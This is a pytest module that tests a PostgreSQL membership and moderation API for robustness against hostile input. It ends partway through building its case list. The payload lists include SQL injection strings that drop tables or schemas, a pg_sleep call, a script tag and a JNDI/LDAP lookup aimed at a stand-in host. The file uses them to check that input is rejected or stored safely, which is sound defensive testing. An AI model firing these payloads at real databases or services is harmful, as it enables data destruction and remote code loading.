"""Hostile input against every SQL API function, called directly over a raw psycopg connection.

One table, `CASES`: (function, argument, hostile value, what must happen). Every other argument
of the call is a valid value (see `SIGNATURES`), so the hostile one is the only reason for what
happens. What must happen is one of:

- a SQLSTATE (SPEC.md section 3, or docs/errors.md where SPEC is silent): the call fails with
  exactly that code, with a message that names the argument (or a HINT that says what to do)
  and never echoes the value; the transaction is rolled back;
- ``Noop(rows)``: an outcome, not an error (reads of unknown communities, an invalid invite
  code, ``not_found``...): the call answers exactly ``rows``, prepare then has nothing to sign,
  and the transaction commits;
- ``CLIENT``: a NUL byte cannot travel inside a PostgreSQL text value at all; psycopg refuses
  it with DataError before anything reaches the server.

In every case the database is byte-for-byte what it was before: the row count and the md5 of
the ordered content of every table in buzz_private, the identity sequences, the transaction
scratch tables (empty), the live list, role definitions (33534) and role deletions (kind 5) of
every community; and member_list_drift() stays empty.

The role paths of SPEC section 6 (define_role, delete_role, assign_role, unassign_role and the
reads role_definitions, role_deletions) get the same treatment: malformed role ids (uppercase,
look-alike Unicode, control characters, 65 characters...) are BZIRL and never lower-cased; a
label, description or color out of range is 22023; an order past the integer bounds is
PostgreSQL's 22003 (at the bounds it is data, stored verbatim). A well-formed role id the call
does not accept (a base role, one the community has not defined) is BZIRL too, with a HINT.

Strings shaped like SQL injection go into every text argument. Where the argument is free data
(``p_added_by``/``p_created_by`` labels, ``p_policy_version``, ``p_note``) they are legitimate
and must be stored verbatim: `test_stored_verbatim` commits them through the two-phase write
and reads them back exactly. `test_insert_signed_events_hostile` covers the second phase:
signatures of the wrong shape or that do not verify (another key's, swapped, one bit flipped,
random: BZSIG) and ids that are not the ones this transaction prepared last, including ids
prepared by another transaction (BZSTL).

The database is one per module (a copy of the migrated template): every case leaves it as it
found it, or (stored-verbatim cases) changes it by exactly the expected rows.

One check is left out:
- 22P02: text that is not a uuid, passed where the API takes a uuid, is refused by PostgreSQL's
  uuid input before the function runs; that message quotes the input. It is PostgreSQL's own
  (SPEC and docs/errors.md are silent), so only the code is checked.
"""

from __future__ import annotations

import collections
import enum
import os
import secrets
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import psycopg
import pytest
from conftest import copy_of_template
from fixtures_membership import expected_tags, kind0, new_pubkey
from psycopg import sql

from buzz_signer.keys import RelayKey
from buzz_signer.membership import Membership
from buzz_signer.nostr import KIND_ROLE, verify_event
from buzz_signer.signer import PreparedEvent, Signer

# How many hostile inputs were tried, by what happened (printed by the last test).
TRIED: collections.Counter[str] = collections.Counter()


@enum.unique
class S(enum.Enum):
    """Valid values known only once the module's database exists (see World)."""

    C = "live community"
    C2 = "second live community"
    Z = "archived community"
    UNKNOWN = "random uuid of no community"
    NEWPK = "pubkey that is nobody's"
    MEMBER = "a member (role member) of C"
    OWNER = "the owner of C"
    RELAY = "the relay key"
    OTHER_KEY = "a valid key that is not the relay key"
    CODE = "an unlimited invite code of C"
    INVITE = "the id of the invite CODE"
    CODE_SPACED = "CODE with a trailing space"
    CODE2 = "an invite code of C2"
    INVITE2 = "the id of the invite CODE2"
    NEWHOST = "a free host"
    HOST = "the host of C"
    KELVIN_HOST = "the host of C with its leading k as U+212A KELVIN SIGN"
    NEWROLE = "a well-formed role id that no community defines"
    ROLE_HELD = "a defined role of C that MEMBER holds"
    ROLE_FREE = "a defined role of C that nobody holds"
    ROLE_GONE = "a role of C defined, then deleted (its kind 5 is live)"
    ROLE_C2 = "a role defined in C2 only"
    NAME = "the name of C's profile"
    NEWEVENT = "an event id that is no request's"
    BANNED = "a pubkey banned from C"
    BANNED_EVENT = "an event id banned from C"
    PROFILE = "MEMBER's kind 0, stored already"


CLIENT = "client-side"


@dataclass(frozen=True)
class Noop:
    rows: Any  # exactly what `SELECT * FROM buzz.f(...)` answers


@dataclass(frozen=True)
class Case:
    func: str
    arg: str  # the hostile argument ('p_pubkeys[2]' for an array element)
    label: str
    value: Any
    expect: str | Noop  # SQLSTATE, CLIENT or Noop
    echo_ok: bool = False  # the message may contain the value (PostgreSQL's own input errors)
    names: str | None = None  # what the message names, when not the argument (a profile field)

    @property
    def id(self) -> str:
        return f"{self.func}.{self.arg}:{self.label}"


# name -> [(argument, SQL type, valid value)]: every function of SPEC section 3.
SIGNATURES: dict[str, list[tuple[str, str, Any]]] = {
    # Membership writes
    "create_community": [("p_host", "text", S.NEWHOST), ("p_owner", "text", S.NEWPK)],
    "add_relay_member": [
        ("p_community", "uuid", S.C),
        ("p_pubkey", "text", S.NEWPK),
        ("p_role", "text", "member"),
        ("p_added_by", "text", None),
    ],
    "add_relay_members": [
        ("p_community", "uuid", S.C),
        ("p_pubkeys", "text[]", [S.NEWPK]),
        ("p_role", "text", "member"),
        ("p_added_by", "text", None),
    ],
    "claim_relay_membership": [
        ("p_community", "uuid", S.C),
        ("p_pubkey", "text", S.NEWPK),
        ("p_policy_version", "text", None),
    ],
    "create_relay_invite": [
        ("p_community", "uuid", S.C),
        ("p_created_by", "text", S.OWNER),
        ("p_max_uses", "integer", 1),
        ("p_ttl", "interval", "72 hours"),
        ("p_code", "text", None),
        ("p_sealed", "text", None),
    ],
    "claim_relay_invite": [
        ("p_community", "uuid", S.C),
        ("p_code", "text", S.CODE),
        ("p_pubkey", "text", S.NEWPK),
        ("p_policy_version", "text", None),
    ],
    "revoke_relay_invite": [("p_community", "uuid", S.C), ("p_invite_id", "uuid", S.INVITE)],
    "remove_relay_member": [
        ("p_community", "uuid", S.C),
        ("p_pubkey", "text", S.MEMBER),
        ("p_with_branch", "boolean", False),
        ("p_spare_admins", "boolean", False),
    ],
    "remove_relay_member_if_role": [
        ("p_community", "uuid", S.C),
        ("p_pubkey", "text", S.MEMBER),
        ("p_role", "text", "member"),
    ],
    "update_relay_member_role": [
        ("p_community", "uuid", S.C),
        ("p_pubkey", "text", S.MEMBER),
        ("p_role", "text", "admin"),
    ],
    "bootstrap_owner": [("p_community", "uuid", S.C), ("p_pubkey", "text", S.NEWPK)],
    "transfer_ownership": [
        ("p_community", "uuid", S.C),
        ("p_new_owner", "text", S.NEWPK),
        ("p_expected_owner", "text", None),
    ],
    "allowlist_add": [
        ("p_community", "uuid", S.C),
        ("p_pubkey", "text", S.NEWPK),
        ("p_note", "text", None),
    ],
    "backfill_from_allowlist": [("p_community", "uuid", S.C)],
    "republish_member_list": [("p_community", "uuid", S.C)],
    "archive_community": [("p_community", "uuid", S.C)],
    "unarchive_community": [("p_community", "uuid", S.Z)],
    "delete_community": [("p_community", "uuid", S.C)],
    "rotate_relay_key": [("p_new_pubkey", "text", S.NEWPK), ("p_limit", "integer", None)],
    # Profile, bans, join policy and requests (SPEC section 3, amended 2026-12-02). C's policy
    # stays 'invite' and its name NAME: the valid calls answer without changing anything.
    "set_community_profile": [
        ("p_community", "uuid", S.C),
        ("p_field", "text", "name"),
        ("p_value", "text", S.NAME),
    ],
    "ban_pubkey": [
        ("p_community", "uuid", S.C),
        ("p_pubkey", "text", S.NEWPK),
        ("p_reason", "text", None),
        ("p_banned_by", "text", None),
        ("p_spare_admins", "boolean", False),
    ],
    "unban_pubkey": [("p_community", "uuid", S.C), ("p_pubkey", "text", S.NEWPK)],
    "set_join_policy": [("p_community", "uuid", S.C), ("p_policy", "text", "invite")],
    "request_membership": [
        ("p_community", "uuid", S.C),
        ("p_pubkey", "text", S.NEWPK),
        ("p_request_id", "text", S.NEWEVENT),
        ("p_note", "text", None),
    ],
    "approve_join_request": [
        ("p_community", "uuid", S.C),
        ("p_request_id", "text", S.NEWEVENT),
        ("p_approved_by", "text", S.OWNER),
    ],
    "reject_join_request": [
        ("p_community", "uuid", S.C),
        ("p_request_id", "text", S.NEWEVENT),
        ("p_reason", "text", None),
    ],
    # Invite quotas (SPEC section 3, amended 2026-12-02): C's member quota stays 0, its default.
    "set_invite_quota": [
        ("p_community", "uuid", S.C),
        ("p_role", "text", "member"),
        ("p_quota", "integer", 0),
    ],
    # Role writes (SPEC section 6). The valid define_role values are ROLE_HELD's definition.
    "define_role": [
        ("p_community", "uuid", S.C),
        ("p_role", "text", S.NEWROLE),
        ("p_label", "text", "Moderators"),
        ("p_description", "text", "Keeps the peace"),
        ("p_color", "integer", 120),
        ("p_order", "integer", 5),
    ],
    "delete_role": [("p_community", "uuid", S.C), ("p_role", "text", S.ROLE_HELD)],
    "assign_role": [
        ("p_community", "uuid", S.C),
        ("p_pubkey", "text", S.MEMBER),
        ("p_role", "text", S.ROLE_FREE),
    ],
    "unassign_role": [
        ("p_community", "uuid", S.C),
        ("p_pubkey", "text", S.MEMBER),
        ("p_role", "text", S.ROLE_HELD),
    ],
    # The two-phase list write
    "prepare_membership_events": [("p_relay_pubkey", "text", S.RELAY)],
    "insert_signed_events": [("p_ids", "text[]", []), ("p_sigs", "text[]", [])],
    # Reads
    "community_id": [("p_host", "text", S.HOST)],
    "relay_members": [("p_community", "uuid", S.C)],
    "relay_invites": [("p_community", "uuid", S.C)],
    "member_list": [("p_community", "uuid", S.C)],
    "membership_events": [("p_community", "uuid", S.C), ("p_since", "bigint", 0)],
    "membership_events_newest": [
        ("p_community", "uuid", S.C),
        ("p_kinds", "integer[]", None),
        ("p_ids", "text[]", None),
        ("p_members", "text[]", None),
        ("p_since", "bigint", None),
        ("p_until", "bigint", None),
        ("p_limit", "integer", 500),
    ],
    "relay_member": [("p_community", "uuid", S.C), ("p_pubkey", "text", S.MEMBER)],
    "invite_branch": [("p_community", "uuid", S.C), ("p_pubkey", "text", S.MEMBER)],
    "member_list_drift": [("p_community", "uuid", S.C)],
    "role_definitions": [("p_community", "uuid", S.C)],
    "role_deletions": [("p_community", "uuid", S.C)],
    "community_profile": [("p_community", "uuid", S.C)],
    "banned_pubkeys": [("p_community", "uuid", S.C)],
    "join_requests": [("p_community", "uuid", S.C)],
    "invites_left": [("p_community", "uuid", S.C), ("p_pubkey", "text", S.MEMBER)],
    "invite_quotas": [("p_community", "uuid", S.C)],
    # Moderation behind the gate (SPEC section 7). C bans BANNED_EVENT, allows kind 1,
    # disallows kind 7, blocks 192.0.2.1 and assigns banevent to MEMBER: the valid calls
    # answer without changing anything.
    "ban_event": [
        ("p_community", "uuid", S.C),
        ("p_event_id", "text", S.BANNED_EVENT),
        ("p_reason", "text", None),
        ("p_banned_by", "text", None),
    ],
    "unban_event": [("p_community", "uuid", S.C), ("p_event_id", "text", S.NEWEVENT)],
    "allow_kind": [("p_community", "uuid", S.C), ("p_kind", "integer", 1)],
    "disallow_kind": [("p_community", "uuid", S.C), ("p_kind", "integer", 7)],
    "clear_kind_rule": [("p_community", "uuid", S.C), ("p_kind", "integer", 30023)],
    "block_ip": [
        ("p_community", "uuid", S.C),
        ("p_address", "inet", "192.0.2.1"),
        ("p_reason", "text", None),
        ("p_blocked_by", "text", None),
    ],
    "unblock_ip": [("p_community", "uuid", S.C), ("p_address", "inet", "198.51.100.1")],
    "assign_method": [
        ("p_community", "uuid", S.C),
        ("p_pubkey", "text", S.MEMBER),
        ("p_method", "text", "banevent"),
        ("p_assigned_by", "text", None),
    ],
    "unassign_method": [
        ("p_community", "uuid", S.C),
        ("p_pubkey", "text", S.MEMBER),
        ("p_method", "text", "listroles"),
    ],
    "banned_events": [("p_community", "uuid", S.C)],
    "kind_rules": [("p_community", "uuid", S.C)],
    "blocked_ips": [("p_community", "uuid", S.C)],
    "method_assignees": [("p_community", "uuid", S.C)],
    "moderation_rules": [("p_community", "uuid", S.C)],
    # Members' own profiles (SPEC sections 7 and 8): the valid call sends the stored one again.
    "set_member_profile": [("p_community", "uuid", S.C), ("p_event", "text", S.PROFILE)],
    "member_profiles": [
        ("p_community", "uuid", S.C),
        ("p_authors", "text[]", None),
        ("p_since", "bigint", None),
        ("p_until", "bigint", None),
        ("p_limit", "integer", 500),
        ("p_ids", "text[]", None),
    ],
    # What several relay processes share (SPEC section 9). A valid call counts a hit or records
    # an authorization: only the hostile ones are made, and they change nothing.
    "accept_auth_event": [
        ("p_event_id", "text", S.NEWEVENT),
        ("p_fresh_until", "timestamp with time zone", "now"),
    ],
    "take_rate": [
        ("p_scope", "text", "invite"),
        ("p_keys", "text[]", ["key"]),
        ("p_limit", "integer", 1),
        ("p_seconds", "integer", 86400),
    ],
    "rate_reached": [
        ("p_scope", "text", "invite"),
        ("p_keys", "text[]", ["key"]),
        ("p_limit", "integer", 1),
        ("p_seconds", "integer", 86400),
    ],
}

H = "0123456789abcdef" * 4  # 64 valid hex characters (used only inside malformed values)
NUL = H[:32] + "\x00" + H[33:]
HUGE = 100_000  # characters of a huge string (every statement is in the server log, in full)

# Shaped like SQL injection (and friends). All printable and at most 64 characters: as data
# (labels, policy versions, notes) they are legitimate and must be stored verbatim.
INJECTIONS: list[tuple[str, str]] = [
    ("drop-table", "'; DROP TABLE buzz_private.relay_members; --"),
    ("or-1-1", "' OR '1'='1"),
    ("dollar-quote", "$$; DELETE FROM buzz_private.relay_members; $$"),
    ("tagged-dollar", "$q$ || pg_sleep(5) || $q$"),
    ("E-string-x00", "E'\\x00'"),
    ("backslash-u0000", "\\u0000"),
    ("lone-backslash", "\\"),
    ("backslash-quote", "\\'; SELECT 1; --"),
    ("unicode-quotes", "\u2019 OR \u20181\u2019=\u20181"),
    ("fullwidth-apostrophe", "\uff07; DROP SCHEMA buzz CASCADE; --"),
    ("double-quote", '"; DROP SCHEMA buzz CASCADE; --'),
    ("comment", "member /* */ --"),
    ("call", "x'); SELECT buzz.delete_community(NULL); --"),
    ("format-specifiers", "%s %(p)s {0} %n %x"),
    ("copy-null-marker", "\\N"),
    ("jndi", "${jndi:ldap://evil.example/a}"),
    ("html", "<script>alert(1)</script>"),
    ("bobby", "Robert'); DROP TABLE students;--"),
    ("null-word", "NULL"),
    ("json", '{"role":"owner"}'),
    ("array-literal", "{owner,admin}"),
]

BAD_PUBKEYS: list[tuple[str, Any]] = [
    ("NULL", None),
    ("empty", ""),
    ("63-hex", H[:63]),
    ("65-hex", H + "a"),
    ("128-hex", H + H),
    ("non-hex", "g" * 64),
    ("0x-prefix", "0x" + H[:62]),
    ("leading-space", " " + H),
    ("trailing-space", H + " "),
    ("space-inside-64", H[:31] + " " + H[32:]),
    ("trailing-newline", H + "\n"),
    ("leading-tab", "\t" + H[1:]),
    ("non-ascii", "\u00e9" * 64),
    ("fullwidth-digits", "\uff10" * 64),
    ("arabic-indic-digits", "\u0660" * 64),
    ("fullwidth-hex", "\uff41" * 64),
    ("npub", "npub1" + "q" * 58),
    ("uuid", str(uuid.UUID(int=1))),
    ("sql-64", ("' OR '1'='1' --" + H)[:64]),
    ("huge-100k", "a" * HUGE),
    *INJECTIONS,
]

BAD_ROLES: list[tuple[str, Any]] = [
    ("NULL", None),
    ("empty", ""),
    ("capitalised", "Member"),
    ("uppercase", "ADMIN"),
    ("leading-space", " member"),
    ("trailing-space", "member "),
    ("trailing-newline", "member\n"),
    ("unknown", "superuser"),
    ("non-ascii", "m\u00e9mber"),
    ("fullwidth", "\uff4d\uff45\uff4d\uff42\uff45\uff52"),
    ("list", "admin,member"),
    ("huge-100k", "m" * HUGE),
    *INJECTIONS,
]

BAD_HOSTS: list[tuple[str, Any]] = [
    ("NULL", None),
    ("empty", ""),
    ("space", " "),
    ("scheme", "https://evil.example.net"),
    ("ws-scheme", "wss://evil.example.net"),
    ("path", "evil.example.net/path"),
    ("trailing-slash", "evil.example.net/"),
    ("trailing-dot", "evil.example.net."),
    ("leading-dot", ".evil.example.net"),
    ("empty-label", "evil..example.net"),
    ("leading-hyphen", "-evil.example.net"),
    ("trailing-hyphen", "relay-.example.org"),
    ("port-0", "evil.example.net:0"),
    ("port-65536", "evil.example.net:65536"),
    ("port-leading-zero", "evil.example.net:080"),
    ("port-empty", "evil.example.net:"),
    ("port-negative", "evil.example.net:-1"),
    ("two-ports", "evil.example.net:1:2"),
    ("leading-space", " evil.example.net"),
    ("trailing-space", "evil.example.net "),
    ("inner-space", "evil example.net"),
    ("trailing-newline", "evil.example.net\n"),
    ("tab", "evil.example.net\t"),
    ("underscore", "ev_il.example.net"),
    ("wildcard", "*.example.org"),
    ("userinfo", "user@evil.example.net"),
    ("ipv6", "[::1]"),
    ("bare-ipv6", "::1"),
    ("non-ascii", "r\u00e9lay.example.net"),
    ("kelvin", "\u212aelvin.example.org"),
    ("label-64", "a" * 64 + ".org"),
    ("name-255", ".".join(["a" * 63] * 4) + "aa"),
    ("huge-100k", "a" * HUGE),
    ("huge-dots", "a." * 50_000 + "a!"),
    *[(label, v) for label, v in INJECTIONS if v != "NULL"],  # NULL is a fine one-label host
]

BAD_LABELS: list[tuple[str, Any]] = [  # p_added_by / p_created_by / p_policy_version: 22023
    ("empty", ""),
    ("65-chars", "x" * 65),
    ("newline", "a\nb"),
    ("tab", "\t"),
    ("escape", "\x1b[31m"),
    ("del", "label\x7f"),
    ("huge-100k", "x" * HUGE),
]

# Legitimate data: stored verbatim (tests the round trip, not a rejection).
GOOD_LABELS: list[tuple[str, str]] = [
    *INJECTIONS,
    ("64-chars", "l" * 64),
    ("64-emoji", "\U0001f642" * 64),
    ("spaces-around", " invite "),
    ("backslashes", "C:\\path\\to\\"),
    ("unicode", "Zo\u00eb \u00fcber \u2603"),
]


# Role ids (SPEC section 6: 1-64 of [a-z0-9_-], taken as given): BZIRL. Uppercase and
# Unicode that lower-cases or normalizes to a valid id included: nothing is folded.
BAD_ROLE_IDS: list[tuple[str, Any]] = [
    ("NULL", None),
    ("empty", ""),
    ("65-chars", "r" * 65),
    ("huge-100k", "r" * HUGE),
    ("capitalised", "Moderator"),
    ("uppercase", "MODERATOR"),
    ("uppercase-base", "ADMIN"),
    ("leading-space", " moderator"),
    ("trailing-space", "moderator "),
    ("inner-space", "mod erator"),
    ("trailing-newline", "moderator\n"),
    ("leading-newline", "\nmoderator"),
    ("tab", "\tmoderator"),
    ("control", "mod\x01"),
    ("escape", "\x1b[31m"),
    ("del", "mod\x7f"),
    ("c1-nel", "mod\x85"),
    ("dot", "mod.erator"),
    ("colon", "33534:role"),  # the separator of the kind 5's "a" address
    ("slash", "mod/erator"),
    ("plus", "mod+erator"),
    ("quote", 'mod"erator'),
    ("non-ascii", "m\u00e9mber"),
    ("combining-accent", "me\u0301mber"),
    ("fullwidth", "\uff4d\uff4f\uff44"),
    ("kelvin-sign", "\u212aeeper"),  # lower-cases to "keeper"
    ("dotless-i", "adm\u0131n"),  # upper-cases to "ADMIN"
    ("cyrillic-a", "\u0430dmin"),
    ("zero-width-space", "mod\u200berator"),
    ("arabic-indic-digits", "\u0660\u0661"),
    ("emoji", "\U0001f642"),
    ("list", "admin,member"),
    *INJECTIONS,
]
BASE_ROLES = [("owner", "owner"), ("admin", "admin"), ("member", "member")]

# Names a person reads (SPEC section 10): blank, or holding a format or separator character
# (refused with 22023 in names, labels and descriptions alike).
UNREADABLE: list[tuple[str, str]] = [
    ("spaces-only", "   "),
    ("unicode-spaces-only", "\u00a0\u2003\u3000"),
    ("blank-lines", " \n \n"),
    ("right-to-left-override", "adm\u202enim"),
    ("bidi-isolate", "\u2067x\u2069"),
    ("zero-width-space", "a\u200bb"),
    ("zero-width-joiner", "a\u200db"),
    ("byte-order-mark", "\ufeffname"),
    ("soft-hyphen", "na\u00adme"),
    ("tag-character", "x\U000e0041"),
    ("line-separator", "a\u2028b"),
    ("paragraph-separator", "a\u2029b"),
]
BAD_ROLE_LABELS: list[tuple[str, Any]] = [  # define_role.p_label: 22023
    ("NULL", None),
    ("empty", ""),
    ("65-chars", "x" * 65),
    ("65-emoji", "\U0001f642" * 65),
    ("huge-100k", "x" * HUGE),
    ("newline", "a\nb"),
    ("carriage-return", "a\rb"),
    ("tab", "\t"),
    ("only-control", "\x01"),
    ("escape", "\x1b[31m"),
    ("del", "label\x7f"),
    ("c1-nel", "label\x85"),
    ("c1-csi", "\x9b31m"),
    *UNREADABLE,
]
BAD_DESCRIPTIONS: list[tuple[str, Any]] = [  # define_role.p_description: 22023
    ("501-chars", "d" * 501),
    ("501-emoji", "\U0001f642" * 501),
    ("huge-100k", "d" * HUGE),
    ("empty", ""),
    ("newline", "line one\nline two"),  # one line (SPEC section 6)
    ("tab", "a\tb"),
    *UNREADABLE,
    ("escape", "\x1b[31m"),
    ("del", "text\x7f"),
    ("c1-nel", "text\x85"),
]
INT_MAX, INT_MIN = 2**31 - 1, -(2**31)

# Profile fields (set_community_profile.p_field): 22023.
BAD_FIELDS: list[tuple[str, Any]] = [
    ("NULL", None),
    ("empty", ""),
    ("capitalised", "Name"),
    ("trailing-space", "name "),
    ("policy", "join_policy"),
    ("unknown", "banner"),
    ("list", "name,icon"),
    ("huge-100k", "n" * HUGE),
    *INJECTIONS,
]
# Names (p_value with p_field 'name'): 1-64 printable characters, else 22023. Printable text
# shaped like SQL is a name: stored verbatim (test_stored_verbatim).
BAD_NAMES: list[tuple[str, Any]] = [
    ("empty", ""),
    ("65-chars", "x" * 65),
    ("65-emoji", "\U0001f642" * 65),
    ("huge-100k", "x" * HUGE),
    ("newline", "a\nb"),
    ("tab", "a\tb"),
    ("escape", "\x1b[31m"),
    ("del", "name\x7f"),
    ("c1-nel", "name\x85"),
    *UNREADABLE,
]
# Free text (p_note, p_reason): at most 1000 characters, no control character but tab and line
# breaks, else 22023.
BAD_NOTES: list[tuple[str, Any]] = [
    ("1001-chars", "n" * 1001),
    ("1001-emoji", "\U0001f642" * 1001),
    ("huge-100k", "n" * HUGE),
    ("bell", "ring\x07"),
    ("escape", "\x1b[2J"),
    ("form-feed", "a\x0cb"),
    ("del", "text\x7f"),
    ("c1-csi", "\x9b31m"),
]
GOOD_NOTES = [("newline-tab", "line one\r\nline\ttwo"), ("1000", "n" * 1000)]
BAD_POLICIES: list[tuple[str, Any]] = [  # set_join_policy.p_policy: 22023
    ("NULL", None),
    ("empty", ""),
    ("capitalised", "Open"),
    ("trailing-space", "open "),
    ("unknown", "closed"),
    ("huge-100k", "o" * HUGE),
    *INJECTIONS,
]
# Chosen invite codes (create_relay_invite.p_code): 8-128 of [A-Za-z0-9_-], else BZINV. Every
# injection string is refused too (a character outside the set, or too short).
BAD_CODES: list[tuple[str, Any]] = [
    ("empty", ""),
    ("7-chars", "abcdefg"),
    ("129-chars", "c" * 129),
    ("huge-100k", "c" * HUGE),
    ("space", "code code"),
    ("trailing-newline", "codecode\n"),
    ("dot", "code.code"),
    ("plus-slash", "code+/code"),
    ("percent", "code%20code"),
    ("non-ascii", "c\u00f6decode"),
    ("fullwidth", "\uff43" * 8),
    ("kelvin", "\u212aeepcode"),  # lower-cases to ASCII: still refused
    *INJECTIONS,
]
# NIP-86 method names (assign_method.p_method: one that may be assigned; unassign_method's:
# 1-64 of a-z): 22023. Every injection string is refused too.
BAD_METHODS: list[tuple[str, Any]] = [
    ("NULL", None),
    ("empty", ""),
    ("uppercase", "BANEVENT"),
    ("trailing-space", "banevent "),
    ("65-chars", "m" * 65),
    ("huge-100k", "m" * HUGE),
    ("non-ascii", "b\u00e4nevent"),
    *INJECTIONS,
]
NEVER_ASSIGNED = [  # well-formed, but never assigned (or unknown): 22023 from assign_method
    ("assignmethod", "assignmethod"),
    ("unassignmethod", "unassignmethod"),
    ("supportedmethods", "supportedmethods"),
    ("setmemberrole", "setmemberrole"),
    ("disallowpubkey", "disallowpubkey"),
    ("unknown", "nosuchmethod"),
]
BAD_KINDS = [("-1", -1), ("65536", 65536), ("int-max", INT_MAX), ("int-min", INT_MIN), ("NULL", None)]
BAD_SEALED: list[tuple[str, Any]] = [  # create_relay_invite.p_sealed: 1-1000 characters
    ("empty", ""),
    ("1001-chars", "s" * 1001),
    ("huge-100k", "s" * HUGE),
]


def _cases() -> list[Case]:
    cases: list[Case] = []

    def add(func: str, arg: str, values: list[tuple[str, Any]], expect: str | Noop) -> None:
        for label, value in values:
            cases.append(Case(func, arg, label, value, expect))

    def nul(func: str, arg: str, value: Any = NUL) -> None:
        cases.append(Case(func, arg, "NUL-byte", value, CLIENT))

    # Pubkeys: BZIPK everywhere; a NUL byte never leaves the client.
    pubkey_args = [
        (f, a)
        for f, sig in SIGNATURES.items()
        for a, t, v in sig
        if t == "text"
        and a
        in {
            "p_owner",
            "p_pubkey",
            "p_new_owner",
            "p_expected_owner",
            "p_new_pubkey",
            "p_relay_pubkey",
        }
    ]
    assert {f for f, a in pubkey_args} >= {"ban_pubkey", "unban_pubkey", "request_membership"}
    for f, a in pubkey_args:
        values = BAD_PUBKEYS
        # NULL: any owner; nobody (0 invites, no member row).
        if a == "p_expected_owner" or f in ("invites_left", "relay_member", "invite_branch"):
            values = [(lbl, v) for lbl, v in BAD_PUBKEYS if v is not None]
        add(f, a, values, "BZIPK")
        nul(f, a)
    # A malformed element of p_pubkeys, at position 2 (the message names p_pubkeys[2]).
    for label, value in BAD_PUBKEYS:
        cases.append(Case("add_relay_members", "p_pubkeys[2]", label, [S.NEWPK, value], "BZIPK"))
    nul("add_relay_members", "p_pubkeys[2]", [S.NEWPK, NUL])
    cases += [
        Case("add_relay_members", "p_pubkeys", "NULL-array", None, "BZIPK"),
        Case("add_relay_members", "p_pubkeys", "2-D-array", [[S.NEWPK], [S.NEWPK]], "BZIPK"),
        # Subscripts need not start at 1: the message names the element by its subscript.
        Case("add_relay_members", "p_pubkeys[6]", "lower-bound-5", f"[5:6]={{{H},zz}}", "BZIPK"),
        Case("add_relay_members", "p_pubkeys", "huge-100001", [H] * 100_001, "54000"),
        Case("add_relay_members", "p_pubkeys", "huge-100001-malformed", ["zz"] * 100_001, "54000"),
        Case("add_relay_members", "p_pubkeys", "empty-array", [], Noop([(0,)])),
    ]
    # A valid key that is not the recorded relay key.
    cases.append(
        Case("prepare_membership_events", "p_relay_pubkey", "other-key", S.OTHER_KEY, "BZKEY")
    )

    # Roles.
    for f in ("add_relay_member", "add_relay_members", "update_relay_member_role"):
        add(f, "p_role", [*BAD_ROLES, ("owner", "owner")], "BZIRL")
        nul(f, "p_role", "member\x00")
    add("remove_relay_member_if_role", "p_role", BAD_ROLES, "BZIRL")
    nul("remove_relay_member_if_role", "p_role", "member\x00")
    add("set_invite_quota", "p_role", [*BAD_ROLES, ("owner", "owner")], "BZIRL")
    nul("set_invite_quota", "p_role", "member\x00")

    # Role ids (SPEC section 6). define_role accepts the base roles; the others take defined
    # roles only.
    for f in ("define_role", "delete_role", "assign_role", "unassign_role"):
        add(f, "p_role", BAD_ROLE_IDS, "BZIRL")
        nul(f, "p_role", "moderator\x00")
    for f in ("delete_role", "assign_role", "unassign_role"):
        for label, value in BASE_ROLES:
            cases.append(Case(f, "p_role", f"base-{label}", value, "BZIRL"))
    # Well-formed ids the community has not defined (any more): assign refuses them (after
    # any argument error, before the member outcome); the others answer that nothing changed.
    undefined = [
        ("undefined", S.NEWROLE),
        ("deleted", S.ROLE_GONE),
        ("other-community", S.ROLE_C2),
    ]
    for label, value in undefined:
        cases.append(Case("assign_role", "p_role", label, value, "BZIRL"))
    add("delete_role", "p_role", undefined, Noop([("not_found",)]))
    add(
        "unassign_role",
        "p_role",
        [*undefined, ("not-held", S.ROLE_FREE)],
        Noop([("not_assigned",)]),
    )
    add("assign_role", "p_role", [("already-held", S.ROLE_HELD)], Noop([("already_assigned",)]))
    add("assign_role", "p_pubkey", [("not-a-member", S.NEWPK)], Noop([("not_member",)]))
    add("unassign_role", "p_pubkey", [("not-a-member", S.NEWPK)], Noop([("not_member",)]))
    add("define_role", "p_role", [("same-definition", S.ROLE_HELD)], Noop([("unchanged",)]))

    # Role definitions: label, description, color out of range (22023); order and color past
    # the integer type, or not numbers at all, are refused by PostgreSQL's own casts.
    add("define_role", "p_label", BAD_ROLE_LABELS, "22023")
    nul("define_role", "p_label", "label\x00")
    add("define_role", "p_description", BAD_DESCRIPTIONS, "22023")
    nul("define_role", "p_description", "text\x00")
    add(
        "define_role",
        "p_color",
        [("361", 361), ("-1", -1), ("int-max", INT_MAX), ("int-min", INT_MIN)],
        "22023",
    )
    for arg in ("p_color", "p_order"):
        for label, value in [
            ("int-max+1", INT_MAX + 1),
            ("int-min-1", INT_MIN - 1),
            ("2^63", 2**63),
        ]:
            cases.append(Case("define_role", arg, label, value, "22003", echo_ok=True))
        for label, value in [("word", "twelve"), ("decimal", "1.5"), ("empty", "")]:
            cases.append(Case("define_role", arg, label, value, "22P02", echo_ok=True))

    # Hosts: malformed for create_community; simply no community for the read.
    add("create_community", "p_host", BAD_HOSTS, "BZHST")
    nul("create_community", "p_host", "evil.example.net\x00")
    add(
        "community_id", "p_host", [*BAD_HOSTS, ("kelvin-lookalike", S.KELVIN_HOST)], Noop([(None,)])
    )
    nul("community_id", "p_host", "evil.example.net\x00")

    # Communities: NULL and unknown ids, archived communities, text that is no uuid.
    writes = [
        "add_relay_member",
        "add_relay_members",
        "claim_relay_membership",
        "create_relay_invite",
        "claim_relay_invite",
        "remove_relay_member",
        "remove_relay_member_if_role",
        "update_relay_member_role",
        "bootstrap_owner",
        "transfer_ownership",
        "allowlist_add",
        "backfill_from_allowlist",
        "define_role",
        "delete_role",
        "assign_role",
        "unassign_role",
        "set_community_profile",
        "ban_pubkey",
        "unban_pubkey",
        "set_join_policy",
        "request_membership",
        "approve_join_request",
        "reject_join_request",
        "set_invite_quota",
        "ban_event",
        "unban_event",
        "allow_kind",
        "disallow_kind",
        "clear_kind_rule",
        "block_ip",
        "unblock_ip",
        "assign_method",
        "unassign_method",
        "set_member_profile",
    ]
    missing = [("NULL", None), ("unknown", S.UNKNOWN), ("nil-uuid", str(uuid.UUID(int=0)))]
    not_uuid = [("not-a-uuid", "c0ffee"), INJECTIONS[0], ("empty", "")]
    for f in writes:
        add(f, "p_community", missing, "BZNCM")
        add(f, "p_community", [("archived", S.Z)], "BZARC")
    for f in (
        "republish_member_list",
        "revoke_relay_invite",
        "archive_community",
